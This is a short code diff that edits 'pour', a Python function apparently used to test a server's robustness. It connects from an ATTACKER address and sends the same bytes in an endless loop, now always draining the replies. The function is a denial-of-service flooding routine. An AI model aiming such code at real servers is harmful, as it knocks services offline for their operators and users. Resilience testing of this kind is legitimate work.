@@ -141,20 +141,15 @@ def upload_slowly(address: str) -> None:
         time.sleep(0.1)
 
 
-def pour(address: str, head: bytes, rest: bytes, *, read: bool = True) -> None:
-    """Send a beginning and then the same bytes for ever.
-
-    Args:
-        read: whether to take what the server answers.
-    """
+def pour(address: str, head: bytes, rest: bytes) -> None:
+    """Send a beginning and then the same bytes for ever, and take what the server answers."""
     host, port = address.split(":")
     while True:
         with contextlib.suppress(OSError):
             client = socket.create_connection((host, int(port)), 5, ATTACKER)
             client.settimeout(30)
             client.sendall(head)
-            if read:
-                threading.Thread(target=drain, args=(client,), daemon=True).start()
+            threading.Thread(target=drain, args=(client,), daemon=True).start()
             while True:
                 client.sendall(rest)
         time.sleep(0.01)
